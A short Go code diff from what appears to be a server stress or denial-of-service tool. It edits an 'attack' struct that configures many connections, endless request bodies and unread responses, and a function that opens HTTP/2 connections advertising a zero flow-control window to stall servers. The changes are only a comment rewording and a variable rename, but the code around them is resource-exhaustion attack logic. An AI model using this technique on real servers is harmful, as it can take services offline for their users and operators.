@@ -101,7 +101,7 @@ type attack struct {
 	connections int
 	head        string // of the request
 	body        int    // bytes that follow it
-	unread      bool   // nobody takes the answer
+	unread      bool   // the answer is not read
 	// of each connection, by HTTP/2: requests whose bodies have so many bytes and no end; 0 =
 	// HTTP/1.1
 	streams int
@@ -165,7 +165,8 @@ func (a *target) sayFrames(frames string, over <-chan struct{}) {
 	}
 	defer conn.Close()
 	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
-	_, _ = io.WriteString(conn, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+frame(4, 0, 0, "\x00\x04\x00\x00\x00\x00")+frames) // windows of 0
+	noWindow := frame(4, 0, 0, "\x00\x04\x00\x00\x00\x00")
+	_, _ = io.WriteString(conn, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+noWindow+frames)
 	<-over
 }
 
